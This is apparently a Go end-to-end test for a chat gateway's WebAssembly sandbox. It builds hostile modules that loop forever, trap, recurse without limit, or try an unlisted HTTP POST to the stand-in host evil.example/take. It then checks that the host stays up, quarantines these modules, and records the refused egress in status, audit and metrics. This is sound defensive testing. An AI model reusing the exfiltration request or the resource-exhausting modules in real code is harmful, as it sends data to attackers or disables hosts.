package e2e_test

import (
	"bytes"
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/gatehouse-chat/gatehouse/internal/sandbox"
	"github.com/gatehouse-chat/gatehouse/internal/sandbox/wasmtest"
)

// hostile are modules whose every operation does one thing that a host must
// survive, with the word by which its fault is known.
func hostile() map[string]struct {
	code  []byte
	fault string
} {
	endless := wasmtest.New(1)
	endless.Handle(nil, wasmtest.Loop(), wasmtest.Br(0), wasmtest.End(), wasmtest.I32Const(0))
	traps := wasmtest.New(1)
	traps.Handle(nil, wasmtest.Op(0x00), wasmtest.I32Const(0))
	deep := wasmtest.New(1)
	self := deep.Next()
	deep.Func(wasmtest.Types{wasmtest.I32}, wasmtest.Types{wasmtest.I32}, nil, wasmtest.LocalGet(0), wasmtest.Call(self))
	deep.Handle(nil, wasmtest.LocalGet(0), wasmtest.Call(self))
	type bad = struct {
		code  []byte
		fault string
	}
	return map[string]bad{
		"bad-loop": {endless.Bytes(), "fuel"}, "bad-trap": {traps.Bytes(), "trap"}, "bad-depth": {deep.Bytes(), "depth"},
		"bad-host": {unlisted(), "the manifest does not list"},
	}
}

// unlisted is a module that asks for a host that its manifest does not list, and
// takes no for an answer.
func unlisted() []byte {
	m := wasmtest.New(2)
	output := m.Import("gw", "output", wasmtest.Types{wasmtest.I32, wasmtest.I32}, nil)
	call := m.Import("gw", "call", wasmtest.Types{wasmtest.I32, wasmtest.I32, wasmtest.I32}, wasmtest.Types{wasmtest.I64})
	frame := func(header string) []byte { return sandbox.Payload{Header: json.RawMessage(header)}.Encode() }
	request, failure := frame(`{"method":"POST","url":"https://evil.example/take"}`), frame(`{"code":"other","message":"I was refused"}`)
	m.Data(0, request)
	m.Data(4096, failure)
	m.Handle(nil,
		wasmtest.I32Const(int32(sandbox.HostHTTP)), wasmtest.I32Const(0), wasmtest.I32Const(int32(len(request))), wasmtest.Call(call), wasmtest.Op(0x1a),
		wasmtest.I32Const(4096), wasmtest.I32Const(int32(len(failure))), wasmtest.Call(output), wasmtest.I32Const(1))
	return m.Bytes()
}

// TestHostileModules: channels whose modules do their worst beside one that
// works. Nothing of that one is lost or much delayed, the process lives, and
// people are told which module does what.
func TestHostileModules(t *testing.T) {
	bad := hostile()
	var sections strings.Builder
	for _, name := range []string{"bad-loop", "bad-trap", "bad-depth", "bad-host"} {
		fmt.Fprintf(&sections, "\n  %s:\n    adapter: wasm\n    module: %s\n    dm: open", name, name)
	}
	alone := newRig(t, settings{})
	alone.up()
	before := alone.answers(900)
	alone.term()

	r := newRig(t, settings{})
	for name, b := range bad {
		r.install(name, fmt.Appendf(nil, `{"id": %q, "version": "1.0.0", "abi": "gw1", "kind": ["channel"], "sha256": "%x", "poll": {"min_interval": "1s"}}`,
			name, sha256.Sum256(b.code)), b.code)
	}
	r.set.channel = []string{sections.String()}
	r.configure()
	admin := freePort(t)
	text, err := os.ReadFile(r.configPath())
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(r.configPath(), bytes.Replace(text, []byte("admin: 127.0.0.1:0"), []byte("admin: "+admin), 1), 0o600); err != nil {
		t.Fatal(err)
	}
	r.up()
	during := r.answers(901)
	t.Logf("answers beside nothing: %s; beside hostile modules: %s", spread(before), spread(during))

	for name, b := range bad {
		if !eventually(patience, func() bool { return strings.Contains(r.statusOf(name), b.fault) }) {
			t.Errorf("the status of %s is\n%s", name, r.statusOf(name))
		}
	}
	if got := r.statusOf("bad-host"); !strings.Contains(got, "evil.example") || !strings.Contains(got, "under http it would be") {
		t.Errorf("the missing line is not in\n%s", r.statusOf("bad-host"))
	}
	if !eventually(patience, func() bool { return strings.Contains(r.proc.log.String(), "quarantine=1m0s") }) {
		t.Error("no module is left alone")
	}
	if out := r.verb("audit", "list", "--kind", "egress", "--failed"); !strings.Contains(out, "evil.example") || !strings.Contains(out, "bad-host") {
		t.Errorf("the audit log has\n%s", out)
	}
	resp, err := http.Get("http://" + admin + "/metrics") //nolint:noctx // loopback
	if err != nil {
		t.Fatal(err)
	}
	metrics, _ := io.ReadAll(resp.Body)
	_ = resp.Body.Close()
	for _, want := range []string{`module="bad-loop"`, `kind="fuel"`, `module="bad-depth"`, `kind="depth"`, `module="bad-trap"`} {
		if !strings.Contains(string(metrics), want) {
			t.Errorf("the metrics have no %s", want)
		}
	}
	r.answers(902)
}

// answers writes messages one after the other and returns how long each answer
// took.
func (r *rig) answers(id int64) []time.Duration {
	r.t.Helper()
	who, chat := r.person(id)
	var all []time.Duration
	for n := range 60 {
		text := fmt.Sprintf("message %d of %d", n, id)
		began := time.Now()
		chat.Say(who, text)
		r.awaitText(chat, "echo: "+text)
		all = append(all, time.Since(began))
	}
	return all
}

func spread(all []time.Duration) string {
	slices.Sort(all)
	return fmt.Sprintf("p50 %s, p99 %s", all[len(all)/2].Round(time.Millisecond), all[len(all)*99/100].Round(time.Millisecond))
}

// statusOf is what people are told of a channel.
func (r *rig) statusOf(channel string) string {
	var s struct {
		Channels []struct{ ID, Phase, Error, Fix string } `json:"channels"`
	}
	if err := json.Unmarshal([]byte(r.verb("status", "--json")), &s); err != nil {
		r.t.Fatal(err)
	}
	for _, c := range s.Channels {
		if c.ID == channel {
			return fmt.Sprintf("%s: %s (%s)", c.Phase, c.Error, c.Fix)
		}
	}
	return ""
}
